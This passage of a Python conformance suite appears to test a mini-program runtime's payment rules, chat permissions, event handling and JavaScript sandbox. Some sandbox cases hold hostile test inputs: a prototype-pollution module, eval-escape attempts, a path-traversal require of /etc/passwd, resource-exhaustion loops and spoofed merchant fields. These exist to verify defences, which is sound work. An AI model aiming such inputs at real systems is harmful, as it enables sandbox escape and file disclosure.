     asyncload=pay('PY-1', "{ orderId: 'a b/c', amount: 10, currency: 'CNY' }"), console=[{'regex': '^PY-1 1011 requestPayment:fail invalid order: orderId'}])
case('py-other-currency', 'another currency than the wallet\'s fails with 1011', ['PY-11'], manifest=pay_manifest, world=pay_world, args=grant_pay,
     asyncload=pay('PY-11', "{ orderId: 'A-6', amount: 10, currency: 'USD' }"), console=[{'regex': '^PY-11 1011 requestPayment:fail invalid order'}])
case('py-not-declared', 'payment not declared: 1002', ['PY-2', 'CS-1'], manifest={'merchant': {'id': 'm.shop', 'name': 'Shop'}}, world=pay_world, args=grant_pay,
     asyncload=pay('PY-2', "{ orderId: 'A-7', amount: 10, currency: 'CNY' }"), console=['PY-2 1002 requestPayment:fail permission not declared'])
case('py-denied', 'payment denied: 1003', ['PY-2', 'CS-2'], manifest=pay_manifest, world=pay_world, args=['--deny', 'payment'],
     asyncload=pay('PY-2', "{ orderId: 'A-8', amount: 10, currency: 'CNY' }"), console=['PY-2 1003 requestPayment:fail auth deny'])
case('py-no-merchant', 'a manifest without merchant cannot charge: 1011', ['PY-3'], manifest={'req_permissions': [{'name': 'payment', 'reason': 'r'}]},
     world=pay_world, args=grant_pay, asyncload=pay('PY-3', "{ orderId: 'A-9', amount: 10, currency: 'CNY' }"),
     console=['PY-3 1011 requestPayment:fail invalid order: the manifest declares no merchant'])
case('py-over-limit', 'over the per-payment limit: 1010', ['PY-7', 'ER-10'], manifest=pay_manifest, world=pay_world, args=grant_pay,
     asyncload=pay('PY-7', "{ orderId: 'A-10', amount: 50001, currency: 'CNY' }"), console=[{'regex': '^PY-7 1010 requestPayment:fail over limit: '}])
case('py-daily-limit', 'over the daily limit: 1010', ['PY-7'], manifest=pay_manifest, world=pay_world, args=grant_pay,
     asyncload="await mp.requestPayment({ orderId: 'D-1', amount: 40000, currency: 'CNY' }); " + pay('PY-7', "{ orderId: 'D-2', amount: 30000, currency: 'CNY' }"),
     console=[{'regex': '^PY-7 1010 requestPayment:fail over limit: '}])
def hmac_hex(key, text):
    return hmac.new(key.encode(), text.encode(), hashlib.sha256).hexdigest()
def signed(app_id, order, key='shop-key', merchant='m.shop'):
    """The `sign` of `order` for app `app_id` (docs/api.md, Signed orders): HMAC-SHA256 of the canonical order string."""
    return hmac_hex(key, 'amount=%d&appId=%s&currency=%s&description=%s&merchant=%s&orderId=%s' % (
        order['amount'], app_id, order['currency'], order.get('description', ''), merchant, order['orderId']))
coffee = {'orderId': 'A-1', 'amount': 1234, 'currency': 'CNY', 'description': 'Coffee & cake=yes'}
def coffee_js(sign=None, amount=1234, extra=''):
    """JS: the coffee order, with `sign` when given."""
    return "{ orderId: 'A-1', amount: %d, currency: 'CNY', description: 'Coffee & cake=yes'%s%s }" % (amount, extra, ", sign: '%s'" % sign if sign else '')
def own_sign(id):
    return signed('org.conformance.' + id, coffee)
case('py-signature-missing', 'a signing merchant\'s order without sign: 1012', ['PY-4', 'ER-12'], manifest=pay_manifest, world=signed_world, args=grant_pay,
     asyncload=pay('PY-4', coffee_js()), console=[{'regex': '^PY-4 1012 requestPayment:fail bad signature'}])
case('py-signature-valid', 'a valid HMAC-SHA256 sign is accepted', ['PY-4'], manifest=pay_manifest, world=signed_world, args=grant_pay,
     asyncload=pay('PY-4', coffee_js(own_sign('py-signature-valid'))),
     console=['PY-4 ok requestPayment:ok'])
case('py-signature-tampered', 'a sign for other terms is refused: 1012', ['PY-4', 'ER-12'], manifest=pay_manifest, world=signed_world, args=grant_pay,
     asyncload=pay('PY-4', coffee_js(own_sign('py-signature-tampered'), amount=1)),
     console=[{'regex': '^PY-4 1012 requestPayment:fail bad signature'}])
case('py-signature-without-app-id', 'a sign over the order without the app id is refused: 1012', ['PY-4', 'ER-12'], manifest=pay_manifest, world=signed_world,
     args=grant_pay, asyncload=pay('PY-4', coffee_js(hmac_hex('shop-key', 'amount=1234&currency=CNY&description=Coffee & cake=yes&merchant=m.shop&orderId=A-1'))),
     console=[{'regex': '^PY-4 1012 requestPayment:fail bad signature'}])
once_id = 'py-signed-order-once-per-merchant'
once_other = 'org.conformance.%s-other' % once_id
case(once_id, 'a signing merchant\'s order id is charged once across apps: a replay is 1012, a re-signed order 1011', ['PY-4', 'PY-5', 'ER-11'],
     manifest=pay_manifest, world=signed_world, args=grant_pay, targets=['.', 'other'],
     files={'other/manifest.json': json.dumps(dict(pay_manifest, app_id=once_other, name='Other', pages=['pages/index/index']), indent=2, sort_keys=True) + '\n',
            'other/app.js': 'App({})\n',
            'other/pages/index/index.js': PRELUDE + 'Page({ onLoad() { (async () => {\n'
                + pay('replay', coffee_js(own_sign(once_id))) + pay('other', coffee_js(signed(once_other, coffee))) + '})() } })\n'},
     asyncload=pay('first', coffee_js(own_sign(once_id))),
     console=[{'regex': '^replay 1012 requestPayment:fail bad signature'},
              {'regex': '^(first|other) 1011 requestPayment:fail invalid order: order A-1 of merchant m.shop was already charged by another app'}])
case('py-merchant-from-manifest', 'a merchant field in the arguments does not change the merchant', ['PY-12', 'AR-11'], manifest=pay_manifest, world=signed_world, args=grant_pay,
     asyncload=pay('PY-12', coffee_js(own_sign('py-merchant-from-manifest'), extra=", merchant: 'm.evil', merchantId: 'm.evil'")),
     console=[{'regex': '^PY-12 (ok requestPayment:ok|1011 requestPayment:fail invalid order)'}])
manifest_error('py-merchant-id-look-alike', 'a merchant id with an invisible character is refused naming merchant.id', ['PY-12', 'PK-2'],
               '{"app_id": "org.conformance.x", "name": "x", "pages": ["pages/index/index"], "merchant": {"id": "m.shop\\u200b", "name": "Shop"}}\n',
               ['merchant.id'])
case('py-policy-deny', 'a policy that denies payment: no charge', ['PY-9', 'CS-2'], manifest=pay_manifest, world=dict(pay_world, policy={'payment': 'deny'}),
     asyncload=pay('PY-9', "{ orderId: 'A-11', amount: 10, currency: 'CNY' }"), console=[{'regex': '^PY-9 100[34] requestPayment:fail'}])
case('py-insufficient-then-ok', 'a refused payment is not recorded; a smaller order still goes through', ['PY-8'], manifest=pay_manifest,
     world={'wallet': {'currency': 'CNY', 'balance': 1000, 'per_payment_limit': 50000, 'daily_limit': 60000}, 'merchants': [{'id': 'm.shop', 'name': 'Shop'}]},
     args=grant_pay, asyncload=pay('first', "{ orderId: 'B-1', amount: 5000, currency: 'CNY' }") + pay('second', "{ orderId: 'B-2', amount: 500, currency: 'CNY' }"),
     console=[{'regex': '^first 1006 '}, 'second ok requestPayment:ok'])
case('py-description-too-long', 'a description over 128 characters fails with 1011', ['PY-1'], manifest=pay_manifest, world=pay_world, args=grant_pay,
     asyncload=pay('PY-1', "{ orderId: 'A-12', amount: 10, currency: 'CNY', description: 'd'.repeat(129) }"),
     console=[{'regex': '^PY-1 1011 requestPayment:fail invalid order: description'}])

# ---------------------------------------------------------------- CH: chat
chat_world = {'user': {'id': 'me', 'name': 'Alex'}, 'contacts': [{'id': 'lin', 'name': 'Lin'}, {'id': 'kai', 'name': 'Kai'}],
              'conversations': [{'id': 'team', 'title': 'Team', 'members': ['me', 'lin', 'kai'], 'messages': [{'from': 'kai', 'text': 'hello team', 'time': '2026-11-26T08:00:00Z'}]},
                                {'id': 'secret', 'title': 'Secret', 'members': ['me', 'lin'], 'messages': [{'from': 'lin', 'text': 'hidden', 'time': '2026-11-26T08:00:00Z'}]}],
              'peers': [{'id': 'lin', 'rules': [{'match': 'contains', 'text': 'ping', 'reply': 'pong from {name}', 'delay_ms': 50}]}]}
chat_read = {'req_permissions': [{'name': 'chat.read', 'reason': 'r'}]}
chat_rw = {'req_permissions': [{'name': 'chat.read', 'reason': 'r'}, {'name': 'chat.send', 'reason': 's'}]}
conv = ['--conversation', 'team']
case('ch-launch-scene', 'launched from a conversation, onLaunch gets {scene: chat, conversationId}', ['CH-1'], world=chat_world, args=conv + ['--grant', 'chat.read'],
     manifest=chat_read, app="App({ onLaunch(o) { console.log('CH-1 ' + o.scene + ' ' + o.conversationId) } })\n", console=['CH-1 chat team'])
case('ch-visible-set', 'getConversations lists only the launch conversation', ['CH-2'], world=chat_world, args=conv + ['--grant', 'chat.read'], manifest=chat_read,
     asyncload="const r = await mp.getConversations(); L('CH-2 ' + r.conversations.map((c) => c.conversationId).join(','))", console=['CH-2 team'])
case('ch-empty-without-conversation', 'launched from no conversation the visible set is empty', ['CH-2'], world=chat_world, args=['--grant', 'chat.read'], manifest=chat_read,
     asyncload="const r = await mp.getConversations(); L('CH-2 ' + r.conversations.length)", console=['CH-2 0'])
case('ch-other-conversation-not-found', 'another conversation, real or not, fails with 1007 and the same words', ['CH-3', 'ER-7'], world=chat_world,
     args=conv + ['--grant', 'chat.read'], manifest=chat_read,
     asyncload=("let a = '', b = ''; try { await mp.getMessages({ conversationId: 'secret' }) } catch (e) { a = e.errCode + ' ' + e.errMsg.replace('secret', 'X') }\n"
                "try { await mp.getMessages({ conversationId: 'nothing' }) } catch (e) { b = e.errCode + ' ' + e.errMsg.replace('nothing', 'X') } L('CH-3 ' + (a === b) + ' ' + a.split(' ')[0])"),
     console=['CH-3 true 1007'])
case('ch-messages', 'getMessages returns the visible conversation\'s history', ['CH-4'], world=chat_world, args=conv + ['--grant', 'chat.read'], manifest=chat_read,
     asyncload="const r = await mp.getMessages({ conversationId: 'team' }); const m = r.messages[0]; L('CH-4 ' + m.text + ' ' + m.from.name + ' ' + m.from.isSelf + ' ' + typeof m.id + ' ' + r.hasMore)",
     console=['CH-4 hello team Kai false number false'])
case('ch-opaque-ids', 'person ids are opaque per-app handles', ['CH-5'], world=chat_world, args=conv + ['--grant', 'chat.read'], manifest=chat_read,
     asyncload="const r = await mp.getConversations(); const ids = r.conversations[0].members.map((m) => m.id); L('CH-5 ' + ids.every((i) => /^u_[0-9a-f]{16}$/.test(i)) + ' ' + ids.includes('kai'))",
     console=['CH-5 true false'])
case('ch-read-not-declared', 'chat.read not declared: 1002', ['CH-6', 'CS-1'], world=chat_world, args=conv, asyncload=tryapi('CH-6', "mp.getConversations()"),
     console=['CH-6 1002 getConversations:fail permission not declared'])
case('ch-send-not-declared', 'sendMessage without chat.send declared: 1002', ['CH-6'], world=chat_world, args=conv + ['--grant', 'chat.read'], manifest=chat_read,
     asyncload=tryapi('CH-6', "mp.sendMessage({ conversationId: 'team', text: 'hi' })"), console=['CH-6 1002 sendMessage:fail permission not declared'])
case('ch-send-consent-declined', 'each message needs consent: declined is 1004 and nothing is stored', ['CH-7', 'ER-4'], world=chat_world,
     args=conv + ['--grant', 'chat.read', '--grant', 'chat.send', '--policy', 'policy.json'], files={'policy.json': '{"chat.message": "deny"}\n'}, manifest=chat_rw,
     asyncload=tryapi('CH-7', "mp.sendMessage({ conversationId: 'team', text: 'hi' })") + "const r = await mp.getMessages({ conversationId: 'team' }); L('CH-7 stored ' + r.messages.length)",
     console=['CH-7 1004 cancel: the user declined to send the message'.replace('1004 ', '1004 sendMessage:fail '), 'CH-7 stored 1'])
case('ch-send-allowed-provenance', 'a sent message carries provenance from the manifest, not the arguments', ['CH-8', 'AR-11'], world=chat_world,
     args=conv + ['--grant', 'chat.read', '--grant', 'chat.send', '--policy', 'policy.json'], files={'policy.json': '{"chat.message": "allow"}\n'}, manifest=chat_rw,
     asyncload=("const s = await mp.sendMessage({ conversationId: 'team', text: 'status', via: { appId: 'org.fake', name: 'Fake' }, from: 'lin' });\n"
                "const r = await mp.getMessages({ conversationId: 'team' }); const m = r.messages[r.messages.length - 1];\n"
                "L('CH-8 ' + (typeof s.messageId) + ' ' + m.text + ' self ' + m.from.isSelf + ' via ' + m.via.appId + ' ' + m.via.name)"),
     console=['CH-8 number status self true via org.conformance.ch-send-allowed-provenance Conformance ch-send-allowed-provenance'])
case('ch-send-other-conversation', 'sending to a conversation outside the visible set: 1007', ['CH-3'], world=chat_world,
     args=conv + ['--grant', 'chat.read', '--grant', 'chat.send', '--policy', 'policy.json'], files={'policy.json': '{"chat.message": "allow"}\n'}, manifest=chat_rw,
     asyncload=tryapi('CH-3', "mp.sendMessage({ conversationId: 'secret', text: 'hi' })"), console=[{'regex': '^CH-3 1007 sendMessage:fail conversation "secret" not found'}])
case('ch-send-empty-text', 'an empty text fails with 1001', ['CH-9', 'ER-1'], world=chat_world, args=conv + ['--grant', 'chat.read', '--grant', 'chat.send'], manifest=chat_rw,
     asyncload=tryapi('CH-9', "mp.sendMessage({ conversationId: 'team', text: '' })"), console=[{'regex': '^CH-9 1001 sendMessage:fail invalid argument: text'}])
case('ch-send-too-long', 'a text over 2000 characters fails with 1001', ['CH-9'], world=chat_world, args=conv + ['--grant', 'chat.read', '--grant', 'chat.send'], manifest=chat_rw,
     asyncload=tryapi('CH-9', "mp.sendMessage({ conversationId: 'team', text: 't'.repeat(2001) })"), console=[{'regex': '^CH-9 1001 sendMessage:fail invalid argument: text'}])
case('ch-rate-limit', 'at most 10 messages a minute: the 11th is 1005', ['CH-10', 'ER-5'], world=chat_world,
     args=conv + ['--grant', 'chat.read', '--grant', 'chat.send', '--policy', 'policy.json'], files={'policy.json': '{"chat.message": "allow"}\n'}, manifest=chat_rw,
     asyncload="let n = 0, code = 0; for (let i = 0; i < 11; i++) { try { await mp.sendMessage({ conversationId: 'team', text: 'm' + i }); n++ } catch (e) { code = e.errCode } } L('CH-10 ' + n + ' ' + code)",
     console=['CH-10 10 1005'])
case('ch-peer-reply-event', 'a peer\'s reply arrives as onMessage; the sender gets no echo', ['CH-11', 'HE-1'], world=chat_world,
     args=conv + ['--grant', 'chat.read', '--grant', 'chat.send', '--policy', 'policy.json'], files={'policy.json': '{"chat.message": "allow"}\n'}, manifest=chat_rw,
     asyncload="await mp.getConversations(); mp.onMessage((e) => L('CH-11 ' + e.conversationId + ' ' + e.message.text + ' ' + e.message.from.isSelf)); await mp.sendMessage({ conversationId: 'team', text: 'ping' })",
     console=['CH-11 team pong from Lin false'], console_absent=['CH-11 team ping'])
case('ch-choose-cancel', 'chooseConversation without a terminal or policy is cancelled: 1004', ['CH-12', 'ER-4'], world=chat_world,
     asyncload=tryapi('CH-12', "mp.chooseConversation({})"), console=[{'regex': '^CH-12 1004 chooseConversation:fail cancel'}])
case('ch-choose-joins-visible-set', 'a picked conversation joins the visible set', ['CH-12', 'CH-2'], world=chat_world, manifest=chat_read,
     args=['--grant', 'chat.read', '--policy', 'policy.json'], files={'policy.json': '{"choose": "allow"}\n'},
     asyncload="const p = await mp.chooseConversation({}); const r = await mp.getConversations(); const ids = r.conversations.map((c) => c.conversationId); L('CH-12 ' + (ids.length === 1 && ids[0] === p.conversationId))",
     console=['CH-12 true'])
case('ch-choose-contact', 'chooseContact gives only the picked contact, with an opaque id', ['CH-12', 'CH-5'], world=chat_world,
     args=['--policy', 'policy.json'], files={'policy.json': '{"choose": "allow"}\n'},
     asyncload="const c = await mp.chooseContact({}); L('CH-12 ' + c.name + ' ' + /^u_[0-9a-f]{16}$/.test(c.id))", console=['CH-12 Lin true'])
case('ch-unknown-launch-conversation', 'launching from a conversation the world lacks is refused (exit 2)', ['CH-1', 'DR-3'], world=chat_world,
     args=['--conversation', 'nope'], exit_code=2, exit_status=None, stderr_contains=['nope'])

# ---------------------------------------------------------------- HE: host events
case('he-listener-dedupe', 'the same listener added twice is called once; off removes it', ['HE-1'], manifest=loc_manifest, args=grant_loc, world=beijing,
     asyncload=("let n = 0; const f = () => { n++ }; mp.onLocationChange(f); mp.onLocationChange(f);\n"
                "await mp.startLocationUpdate({ interval: 100 }); setTimeout(async () => { await mp.stopLocationUpdate(); mp.offLocationChange(f); L('HE-1 per tick ' + (n <= 3)) }, 150)"),
     console=['HE-1 per tick true'])
case('he-listener-throws', 'a listener that throws goes to App.onError; the others still run', ['HE-2'], manifest=loc_manifest, args=grant_loc, world=beijing,
     asyncload=("let got = 0; mp.onLocationChange(() => { throw new Error('listener broke') }); mp.onLocationChange(() => { got++ });\n"
                "await mp.startLocationUpdate({ interval: 100 }); setTimeout(async () => { await mp.stopLocationUpdate(); L('HE-2 others ran ' + (got > 0)) }, 150)"),
     console=['onError: Error: listener broke', 'HE-2 others ran true'], errors=[{'kind': 'exception', 'message_contains': 'listener broke'}])
case('he-on-needs-function', 'on<Event> with a non-function throws TypeError', ['HE-1'], onload="try { mp.onLocationChange(5) } catch (e) { L('HE-1 ' + e.name) }",
     console=['HE-1 TypeError'])
case('he-payload-copy', 'each listener gets its own copy of the payload', ['HE-3'], manifest=loc_manifest, args=grant_loc, world=beijing,
     asyncload=("let seen = []; mp.onLocationChange((p) => { p.latitude = 0 }); mp.onLocationChange((p) => { seen.push(p.latitude) });\n"
                "await mp.startLocationUpdate({ interval: 100, type: 'wgs84' }); setTimeout(async () => { await mp.stopLocationUpdate(); L('HE-3 ' + seen.every((x) => x === 39.9087)) }, 150)"),
     console=['HE-3 true'])

# ---------------------------------------------------------------- SB: sandbox
case('sb-eval', 'eval throws EvalError', ['SB-1'], onload="try { eval('1 + 1'); L('eval ran') } catch (e) { L('SB-1 ' + e.name) }", console=['SB-1 EvalError'], console_absent=['eval ran'])
case('sb-indirect-eval', 'indirect eval throws EvalError', ['SB-1'], onload="try { (0, globalThis.eval)('1'); L('eval ran') } catch (e) { L('SB-1 ' + e.name) }",
     console=['SB-1 EvalError'])
case('sb-function-ctor', 'new Function throws EvalError', ['SB-1'], onload="try { new Function('return 1')(); L('ran') } catch (e) { L('SB-1 ' + e.name) }", console=['SB-1 EvalError'])
case('sb-function-ctor-via-prototype', 'the Function constructor reached through a prototype throws', ['SB-1'],
     onload="try { (function () {}).constructor('return 1')(); L('ran') } catch (e) { L('SB-1 ' + e.name) }", console=['SB-1 EvalError'])
case('sb-async-function-ctor', 'the async function constructor throws', ['SB-1'],
     onload="try { new (Object.getPrototypeOf(async function () {}).constructor)('return 1'); L('ran') } catch (e) { L('SB-1 ' + e.name) }", console=['SB-1 EvalError'])
case('sb-generator-ctor', 'the generator function constructor throws', ['SB-1'],
     onload="try { new (Object.getPrototypeOf(function* () {}).constructor)('yield 1'); L('ran') } catch (e) { L('SB-1 ' + e.name) }", console=['SB-1 EvalError'])
case('sb-async-generator-ctor', 'the async generator function constructor throws', ['SB-1'],
     onload="try { new (Object.getPrototypeOf(async function* () {}).constructor)('yield 1'); L('ran') } catch (e) { L('SB-1 ' + e.name) }", console=['SB-1 EvalError'])
case('sb-webassembly', 'WebAssembly is absent', ['SB-2'], onload="L('SB-2 ' + typeof WebAssembly + ' ' + ('WebAssembly' in globalThis))", console=['SB-2 undefined false'])
for g in ['Array', 'Object', 'Function', 'Promise', 'String', 'JSON', 'Math', 'RegExp', 'Error', 'Map']:
    target = g + '.prototype' if g not in ('JSON', 'Math') else g
    case('sb-frozen-' + g.lower(), g + ' is frozen: changing it has no effect', ['SB-3'],
         onload="'use strict';\nlet threw = false; try { %s.__conformance = 1 } catch (e) { threw = true } L('SB-3 %s ' + Object.isFrozen(%s) + ' ' + (%s.__conformance === undefined))" % (target, g, target, target),
         console=['SB-3 %s true true' % g])
case('sb-prototype-pollution', 'Object.prototype cannot be polluted for later code', ['SB-3'],
     files={'lib/evil.js': "try { Object.prototype.isAdmin = true } catch (e) {} try { Object.defineProperty(Object.prototype, 'polluted', { value: 1 }) } catch (e) {}\n"},
     onload="require('../../lib/evil'); L('SB-3 ' + ({}).isAdmin + ' ' + ({}).polluted)", console=['SB-3 undefined undefined'])
case('sb-array-push-intact', 'replacing Array.prototype.push fails; push still works', ['SB-3'],
     onload="try { Array.prototype.push = function () { return 'spy' } } catch (e) {} const a = []; a.push(1); L('SB-3 ' + a.length)", console=['SB-3 1'])
case('sb-shadow-tostring', 'shadowing toString and an error\'s name on own objects still works', ['SB-4'],
     onload="const o = { toString() { return 'mine' } }; const e = new Error('m'); e.name = 'MyError'; L('SB-4 ' + String(o) + ' ' + e.name + ' ' + e.toString())",
     console=['SB-4 mine MyError MyError: m'])
case('sb-class-extends-builtins', 'classes may extend built-ins', ['SB-4'],
     onload="class MyErr extends Error { constructor(m) { super(m); this.name = 'MyErr' } } class A extends Array {} L('SB-4 ' + new MyErr('x').name + ' ' + (new A() instanceof Array))",
     console=['SB-4 MyErr true'])
for g in ['process', 'require_global', 'fetch', 'XMLHttpRequest', 'WebSocket', 'setImmediate', 'SharedArrayBuffer', 'print', 'document', 'window', 'Buffer', 'importScripts', 'Worker']:
    name = 'require' if g == 'require_global' else g
    expr = "typeof globalThis.require" if g == 'require_global' else "typeof " + g
    case('sb-no-global-' + g.lower().replace('_', '-'), 'the global ' + name + ' is not available', ['SB-5'], onload="L('SB-5 %s ' + %s)" % (name, expr),
         console=['SB-5 %s undefined' % name])
case('sb-globals-allowlist', 'the globals are the built-ins plus the runtime\'s names', ['SB-5'],
     onload=("const allowed = new Set(['AggregateError','App','Behavior','Component','Array','ArrayBuffer','Atomics','BigInt','BigInt64Array','BigUint64Array','Boolean','DataView','Date','Error','EvalError','FinalizationRegistry','Float16Array','Float32Array','Float64Array','Function','Infinity','Int16Array','Int32Array','Int8Array','Intl','Iterator','JSON','Map','Math','NaN','Number','Object','Page','Promise','Proxy','RangeError','ReferenceError','Reflect','RegExp','Set','String','Symbol','SyntaxError','TypeError','URIError','Uint16Array','Uint32Array','Uint8Array','Uint8ClampedArray','WeakMap','WeakRef','WeakSet','clearInterval','clearTimeout','console','decodeURI','decodeURIComponent','encodeURI','encodeURIComponent','escape','eval','getApp','getCurrentPages','global','globalThis','isFinite','isNaN','mp','parseFloat','parseInt','queueMicrotask','setInterval','setTimeout','undefined','unescape','wx']);\n"
             "const extra = Object.getOwnPropertyNames(globalThis).filter((n) => !allowed.has(n)); L('SB-5 extra [' + extra.join(',') + ']')"),
     console=['SB-5 extra []'])
case('sb-global-is-the-apps-object', 'global is one plain object per app, shared by its modules, not the global object', ['SB-5'],
     files={'lib/mark.js': "global.marks = (global.marks || 0) + 1; module.exports = global;\n"},
     onload="const g = require('../../lib/mark'); L('SB-5 ' + typeof global + ' ' + (global === globalThis) + ' ' + (g === global) + ' ' + global.marks)",
     console=['SB-5 object false true 1'])
case('cc-hostile-shapes-reach-fail', 'a throwing getter or a revoked Proxy ends in fail and complete, never a raw throw', ['CC-11'],
     asyncload=("const { proxy, revoke } = Proxy.revocable({}, {}); revoke();\n"
                "mp.setStorage({ get key() { throw new Error('boom') }, fail: (e) => L('CC-11 fail ' + e.errCode), complete: () => L('CC-11 complete') });\n"
                "try { await mp.setStorage(proxy) } catch (e) { L('CC-11 rejected ' + e.errCode) }\n"
                "try { mp.setStorageSync('k', proxy) } catch (e) { L('CC-11 sync ' + e.errCode) }"),
     console=['CC-11 fail 1001', 'CC-11 complete', 'CC-11 rejected 1001', 'CC-11 sync 1001'])
case('pd-set-data-limits', 'a setData nested over 100 levels or over 1024 kB throws 1001 and changes nothing', ['PD-5'],
     onload=("let deep = 1; for (let i = 0; i < 600; i++) deep = [deep];\n"
             "for (const v of [deep, 'x'.repeat(1100000)]) { try { this.setData({ v }); L('PD-5 allowed') } catch (e) { L('PD-5 ' + e.errCode) } }\n"
             "L('PD-5 ' + JSON.stringify(this.data))"),
     manifest={'limits': {'cpu_ms': 2000}}, console=['PD-5 1001', 'PD-5 1001', 'PD-5 {}'])
case('st-keys-exact-code-points', 'storage keys equal under NFC/NFD are two keys', ['ST-10'],
     onload=("mp.setStorageSync('caf\\u00e9', 'nfc'); mp.setStorageSync('cafe\\u0301', 'nfd'); mp.removeStorageSync('caf\\u00e9');\n"
             "L('ST-10 ' + JSON.stringify(mp.getStorageSync('caf\\u00e9')) + ' ' + mp.getStorageSync('cafe\\u0301') + ' ' + mp.getStorageInfoSync().keys.length)"),
     console=['ST-10 "" nfd 1'])
case('sb-intl-and-hidden-intrinsics-frozen', 'Intl and the intrinsics reached only by calling are frozen', ['SB-14'],
     onload=("const set = (o, k) => () => Object.defineProperty(o, k, { value: 'x' });\n"
             "const tries = [set(Intl.NumberFormat.prototype, 'format'), set(Object.getPrototypeOf(Object.getPrototypeOf((async function* () {})())), 'x'),\n"
             "  set(Object.getPrototypeOf(Iterator.prototype.map.call([].values(), (x) => x)), 'next')];\n"
             "L('SB-14 ' + tries.map((t) => { try { t(); return 'open' } catch (e) { return e.name } }).join(','))"),
     console=['SB-14 TypeError,TypeError,TypeError'])
case('sb-runtime-globals-present', 'the runtime\'s globals are there', ['SB-5'],
     onload="L('SB-5 ' + [typeof App, typeof Page, typeof getApp, typeof getCurrentPages, typeof mp, typeof wx, typeof setTimeout, typeof queueMicrotask, typeof console].join(','))",
     console=['SB-5 function,function,function,function,object,object,function,function,object'])
case('sb-no-native-leak', 'no host function is reachable from the globals', ['SB-5'],
     onload="const names = Object.getOwnPropertyNames(globalThis).filter((n) => /native|host|__/i.test(n)); L('SB-5 [' + names.join(',') + ']')", console=['SB-5 []'])
case('sb-cpu-limit', 'a task over the CPU limit is stopped and reported; the next task runs', ['SB-6'], manifest={'limits': {'cpu_ms': 100}},
     page="Page({ spin() { while (true) {} }, ping() { console.log('pong') } })\n", script="call - spin\ncall - ping\n",
     console=[{'prefix': 'onError: '}, 'pong'], errors=[{'kind': 'cpu_limit', 'message_contains': '100 ms'}])
case('sb-cpu-limit-in-timer', 'a runaway timer is stopped; later timers still run', ['SB-6', 'EL-8'], manifest={'limits': {'cpu_ms': 100}},
     onload="setTimeout(() => { for (;;) {} }, 0); setTimeout(() => L('SB-6 next timer'), 20)", console=['SB-6 next timer'], errors=[{'kind': 'cpu_limit'}])
case('sb-cpu-limit-in-hook', 'a runaway onLoad of a page opened later is stopped and the app keeps running', ['SB-6'], manifest={'limits': {'cpu_ms': 100}},
     pages=['pages/index/index', 'pages/spin/spin'], files={'pages/spin/spin.js': "Page({ onLoad() { for (;;) {} } })\n"},
     page="Page({ ping() { console.log('alive') } })\n", script="navigate /pages/spin/spin\nwait 50\ncall pages/index/index ping\n", console=['alive'], errors=[{'kind': 'cpu_limit'}])
case('sb-cpu-limit-at-launch', 'a launch that runs over the CPU limit is a launch failure (exit 1)', ['SB-6', 'PK-9'], manifest={'limits': {'cpu_ms': 100}},
     onload="for (;;) {}", exit_code=1, exit_status='crashed', errors=[{'kind': 'cpu_limit'}])
case('sb-cpu-catch-does-not-escape', 'catching inside the loop does not escape the CPU limit', ['SB-6'], manifest={'limits': {'cpu_ms': 100}},
     page="Page({ spin() { for (;;) { try { while (true) {} } catch (e) {} } }, ping() { console.log('pong') } })\n", script="call - spin\ncall - ping\n",
     console=['pong'], errors=[{'kind': 'cpu_limit'}])
case('sb-memory-limit', 'process isolation: an app over its memory limit is killed; exit 1', ['SB-7'], isolation=['process'], manifest={'limits': {'memory_mb': 64}},
     onload="const keep = []; setInterval(() => { for (let i = 0; i < 20; i++) keep.push(new Array(100000).fill(i)) }, 1)",
     exit_code=1, exit_status='killed', timeout=30)
case('sb-promise-storm', 'process isolation: an endless promise chain is killed as unresponsive', ['SB-8'], isolation=['process'],
     manifest={'limits': {'cpu_ms': 50}}, onload="const spin = () => Promise.resolve().then(spin); spin()", exit_code=1, exit_status='killed', timeout=30)
case('sb-other-app-survives', 'process isolation: when one app is killed the other keeps running', ['SB-10'], isolation=['process'], targets=['.', 'other'],
     manifest={'limits': {'memory_mb': 64}},
     files={'other/manifest.json': json.dumps({'app_id': 'org.conformance.sb-other-app-survives-other', 'name': 'Other', 'pages': ['pages/index/index']}, indent=2, sort_keys=True) + '\n',
            'other/app.js': 'App({})\n', 'other/pages/index/index.js': "Page({ ping() { console.log('other alive') } })\n"},
     onload="const keep = []; setInterval(() => { for (let i = 0; i < 20; i++) keep.push(new Array(100000).fill(i)) }, 1)",
     script="wait 1500\n@org.conformance.sb-other-app-survives-other call - ping\n", console=['other alive'], exit_code=1, exit_status='killed', timeout=30)
case('sb-app-globals-isolated', 'apps do not share globals', ['SB-9'], targets=['.', 'other'],
     files={'other/manifest.json': json.dumps({'app_id': 'org.conformance.sb-app-globals-isolated-other', 'name': 'Other', 'pages': ['pages/index/index']}, indent=2, sort_keys=True) + '\n',
            'other/app.js': 'App({})\n', 'other/pages/index/index.js': "Page({ look() { console.log('other sees ' + typeof globalThis.sharedSecret + ' ' + (getApp().globalData === 'first')) } })\n"},
     app="App({ globalData: 'first' })\n", onload="globalThis.sharedSecret = 'x'; L('set')", script="wait 30\n@org.conformance.sb-app-globals-isolated-other call - look\n",
     console=['set', 'other sees undefined false'])
case('sb-deep-recursion', 'deep recursion is a catchable RangeError', ['SB-11'],
     onload="const f = (n) => f(n + 1) + 1; try { f(0) } catch (e) { L('SB-11 ' + e.name) } L('after')", console=['SB-11 RangeError', 'after'])
case('sb-huge-string', 'a string too large to allocate is a catchable RangeError', ['SB-11'],
     page="Page({ grow() { try { const s = 'x'.repeat(2 ** 32); console.log('len ' + s.length) } catch (e) { console.log('SB-11 ' + e.name) } console.log('after') } })\n",
     script="call - grow\n", console=['SB-11 RangeError', 'after'])
case('sb-date-random', 'Date and Math.random work', ['SB-12'], level='SHOULD',
     onload="const r = Math.random(); L('SB-12 ' + (Date.now() > 1.7e12) + ' ' + (r >= 0 && r < 1))", console=['SB-12 true true'])
case('sb-no-host-path', 'no host path reaches the app', ['MD-6', 'SB-13'],
     onload="try { require('../../../../../etc/passwd') } catch (e) { L('a ' + e.message) } try { undefined.x } catch (e) { L('b ' + e.stack) } L('url ' + (typeof __filename) + ' ' + (typeof __dirname))",
     console=[{'prefix': 'url '}], output_absent=['$CASE_DIR'])
case('sb-function-tostring-native', 'host functions do not reveal their source', ['SB-13'], level='SHOULD',
     onload="const s = Function.prototype.toString.call(mp.getStorageSync); L('SB-13 ' + !/native\\.|callSync/.test(s))", console=['SB-13 true'])
case('sb-frozen-mp-keys', 'APIs cannot be added to or removed from mp', ['SB-3', 'CC-7'],
